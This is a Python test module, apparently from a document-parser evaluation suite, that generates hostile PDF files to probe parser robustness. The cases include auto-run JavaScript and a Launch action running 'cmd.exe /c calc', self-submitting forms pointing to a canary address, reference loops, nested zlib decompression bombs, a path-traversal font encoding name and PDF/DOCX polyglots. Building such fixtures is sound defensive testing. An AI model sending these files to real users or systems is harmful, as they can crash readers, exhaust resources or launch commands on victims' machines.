"""PDF files made to do harm (R24), object by object: actions, loops, bombs, pages without end, two files in one."""

from __future__ import annotations

import zlib
from collections.abc import Iterator, Mapping

from eval.hostile.cases import HostileFile
from eval.hostile.word_files import plain_docx

_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
_RESOURCES = b"/Resources<</Font<</F 5 0 R>>>>"
_WORDS = b"BT /F 12 Tf 72 700 Td (Toan xa co 12 ho ngheo, giam 3 ho so voi cung ky.) Tj ET"


def pdf_files(canary: str) -> tuple[HostileFile, ...]:
    """Return the files; ``canary`` is the address (http://...) that actions point to."""
    return (*_actions(canary.encode()), *_loops(), *_too_much(), *_odd())


def _pdf(changed: Mapping[int, bytes] | None = None, *, catalogue: bytes = b"", page: bytes = b"") -> bytes:
    """Return a PDF of one page; ``changed`` replaces or adds objects, ``page``: in place of its resources."""
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R" + catalogue + b">>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R" + (page or _RESOURCES) + b">>",
        4: _stream(_WORDS),
        5: _FONT,
        **(changed or {}),
    }
    body, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), []
    for number, content in sorted(objects.items()):
        places.append((number, len(body)))
        body += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    start = len(body)
    body += b"xref\n0 1\n0000000000 65535 f \n"
    for number, at in places:
        body += b"%d 1\n%010d 00000 n \n" % (number, at)
    body += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (max(objects) + 1, start)
    return bytes(body)


def _stream(content: bytes, told: bytes = b"") -> bytes:
    return b"<<" + told + b"/Length %d>>stream\n" % len(content) + content + b"\nendstream"


def _actions(canary: bytes) -> Iterator[HostileFile]:
    script = b"/OpenAction<</S/JavaScript/JS(app.launchURL\\('" + canary + b"'\\))>>"
    yield HostileFile("JavaScript", "js.pdf", _pdf(catalogue=script), ("launchURL",))
    launch = b"/OpenAction<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>"
    yield HostileFile("launch", "mo.pdf", _pdf(catalogue=launch), ("cmd.exe",))
    link = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(" + canary + b")>>>>]"
    yield HostileFile("URI action", "lien-ket.pdf", _pdf(page=_RESOURCES + link))
    submit = b"/OpenAction<</S/SubmitForm/F(" + canary + b")>>/AA<</WC<</S/GoToR/F(" + canary + b"/a.pdf)>>>>"
    yield HostileFile("form that submits itself", "gui.pdf", _pdf(catalogue=submit))


def _loops() -> Iterator[HostileFile]:
    yield HostileFile("object loop", "vong.pdf", _pdf({4: b"6 0 R", 6: b"7 0 R", 7: b"6 0 R"}))
    itself = b"<</Length 4 0 R>>stream\nx\nendstream"
    yield HostileFile("length of a stream that is the stream", "vong.pdf", _pdf({4: itself}))
    form = _stream(b"/X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>")
    yield HostileFile("form that draws itself", "vong.pdf", _pdf({4: _stream(b"/X Do"), 6: form}))
    whole = _pdf()
    at = whole.rindex(b"trailer")
    again = b"trailer<</Size 6/Root 1 0 R/Prev %d>>\n" % whole.index(b"xref\n")
    looped = whole[:at] + again + whole[whole.rindex(b"startxref") :]
    yield HostileFile("xref loop", "vong.pdf", looped)
    yield HostileFile("page-tree loop", "vong.pdf", _pdf({2: b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 400>>"}))
    nested = {n: b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (n + 1) for n in range(10, 5_000)}
    yield HostileFile("page tree 5000 deep", "sau.pdf", _pdf({2: b"<</Type/Pages/Kids[10 0 R]/Count 1>>", **nested}))


def _too_much() -> Iterator[HostileFile]:
    bomb = zlib.compress(b" " * 100_000_000, 9)
    yield HostileFile("bomb stream", "bom.pdf", _pdf({4: _stream(bomb, b"/Filter/FlateDecode")}))
    twice = zlib.compress(zlib.compress(b" " * 300_000_000, 9), 9)
    packed = _stream(twice, b"/Filter[/FlateDecode/FlateDecode]")
    yield HostileFile("bomb stream in a bomb stream", "bom.pdf", _pdf({4: packed}))
    kids = b"3 0 R " * 100_000
    pages = _pdf({2: b"<</Type/Pages/Count 100000/Kids[" + kids + b"]>>"})
    yield HostileFile("100k pages", "dai.pdf", pages, must_refuse=True)
    yield HostileFile("milliard pages declared", "dai.pdf", _pdf({2: b"<</Type/Pages/Kids[3 0 R]/Count 1000000000>>"}))
    told = b"/Type/XObject/Subtype/Image/Width 100000/Height 100000/ColorSpace/DeviceRGB/BitsPerComponent 8"
    drawn = b"/Resources<</Font<</F 5 0 R>>/XObject<</X 6 0 R>>>>"
    shown = {4: _stream(b"/X Do " + _WORDS), 6: _stream(b"x", told)}
    yield HostileFile("huge image", "anh.pdf", _pdf(shown, page=drawn))
    words = b"BT /F 1 Tf " + b"".join(b"1 0 0 1 %d %d Tm (12) Tj " % (n % 500, n % 700) for n in range(5_000)) + b"ET"
    yield HostileFile("5,000 words on a page", "day.pdf", _pdf({4: _stream(words)}))
    rules = b"".join(b"%d 0 m %d 800 l S " % (n % 595, n % 595) for n in range(100_000))
    yield HostileFile("100,000 lines on a page", "ke.pdf", _pdf({4: _stream(rules + _WORDS)}))


def _odd() -> Iterator[HostileFile]:
    named = b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/..#2f..#2f..#2ftmp#2fevil/DescendantFonts[6 0 R]>>"
    below = (
        b"<</Type/Font/Subtype/CIDFontType2/BaseFont/A/CIDSystemInfo<</Registry(A)/Ordering(/tmp/x)/Supplement 0>>>>"
    )
    yield HostileFile("CMap named like a pickle on disk", "cmap.pdf", _pdf({5: named, 6: below}))
    told = b"<</Type/FontDescriptor/FontName/A/Flags 4/FontFile2 7 0 R>>"
    font = b"<</Type/Font/Subtype/TrueType/BaseFont/A/FirstChar 0/LastChar 255/FontDescriptor 6 0 R>>"
    broken = _stream(b"\x00\x01\x00\x00\xff\xff" + b"\xff" * 3_000)
    yield HostileFile("broken font", "phong.pdf", _pdf({5: font, 6: told, 7: broken}))
    lock = b"/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -4/O<%s>/U<%s>>>/ID[<00><00>]" % (b"00" * 32, b"11" * 32)
    locked = _pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R" + lock)
    yield HostileFile("encrypted", "khoa.pdf", locked, must_refuse=True)
    yield HostileFile("PDF and Word file in one", "hai.pdf", _pdf() + plain_docx())
    yield HostileFile("PDF behind a zip container", "hai.docx", plain_docx() + _pdf())
    negative = _pdf().replace(b"[0 0 595 842]", b"[9 9 -1e9 -9]").replace(b"/Length %d" % len(_WORDS), b"/Length -1")
    yield HostileFile("negative sizes", "am.pdf", negative)
    yield HostileFile("sizes without end", "lon.pdf", _pdf().replace(b"[0 0 595 842]", b"[0 0 1e30 1e30]"))
    whole = _pdf()
    for size in range(200, len(whole), 150):
        yield HostileFile("truncated", "cut.pdf", whole[:size])
